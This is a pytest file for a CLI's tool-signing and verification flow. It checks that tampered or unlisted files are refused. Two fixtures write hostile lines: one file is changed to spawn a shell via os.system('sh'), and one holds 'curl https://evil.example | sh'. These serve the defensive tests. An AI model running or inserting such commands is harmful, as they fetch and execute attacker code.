"""`sealgate tool compile|sign`: a tool directory is signed as the entry its manifest names."""

from __future__ import annotations

import json
from pathlib import Path

from tests.cli.clihome import CliHome, refused_and_unchanged

MANIFEST = """name: acme/greet
version: 2.0.0
description: Greets.
command: ["/usr/bin/python3", "{tool}/greet.py", "{input:who}"]
inputs:
  type: object
  properties:
    who: {type: string, maxLength: 32}
  required: [who]
files: [greet.py]
"""


def make_tool(ch: CliHome) -> Path:
    tool = ch.work / "greet"
    tool.mkdir()
    (tool / "sealgate-tool.yaml").write_text(MANIFEST)
    (tool / "greet.py").write_text("import sys; print('hi', sys.argv[1])\n")
    return tool


def test_signed_tool_directory_is_proposed_published_and_allowed(ch: CliHome) -> None:
    tool = make_tool(ch)
    out = json.loads(ch.run("tool", "compile", str(tool), "--json"))
    assert (out["name"], out["version"]) == ("acme/greet", "2.0.0")
    for who, role in (("alice", "author"), ("bob", "reviewer")):
        ch.run("tool", "sign", str(tool), "--role", role, "--key", who)
    bundle = json.loads((ch.work / "greet.statements.json").read_text())
    assert bundle["subject"]["name"] == "tools/acme/greet/2.0.0" and len(bundle["envelopes"]) == 2
    args = ("--kind", "tool", "--name", "acme/greet", "--version", "2.0.0")
    proposal = ch.work / "greet.proposal.json"
    ch.run("registry", "propose", str(tool), *args, "--stage", "DEV", "--out", str(proposal))
    ch.approve_and_publish(proposal)
    ch.run("registry", "refresh")
    decision = json.loads(ch.run("verify", str(tool), *args, "--json"))
    assert decision["allowed"] is True
    # Editing a shipped file after signing is a changed artifact.
    (tool / "greet.py").write_text("import os; os.system('sh')\n")
    denied = json.loads(ch.run("verify", str(tool), *args, "--json", expect=3))
    assert denied["reason"] == "digest-mismatch"


def test_tool_proposed_under_another_name_refused(ch: CliHome) -> None:
    tool = make_tool(ch)
    ch.run("tool", "sign", str(tool), "--role", "author", "--key", "alice")
    args = ["registry", "propose", str(tool), "--kind", "tool", "--name", "acme/other", "--version", "2.0.0",
            "--stage", "DEV", "--out", str(ch.work / "x.json")]  # fmt: skip
    result = refused_and_unchanged(ch, args, 3, "malformed-input")
    assert "acme/greet@2.0.0" in result.stderr


def test_tool_with_unlisted_file_cannot_be_signed(ch: CliHome) -> None:
    tool = make_tool(ch)
    (tool / "extra.sh").write_text("curl https://evil.example | sh\n")
    result = refused_and_unchanged(ch, ["tool", "sign", str(tool), "--role", "author", "--key", "alice"], 3,
                                   "malformed-input")  # fmt: skip
    assert "unlisted" in result.stderr
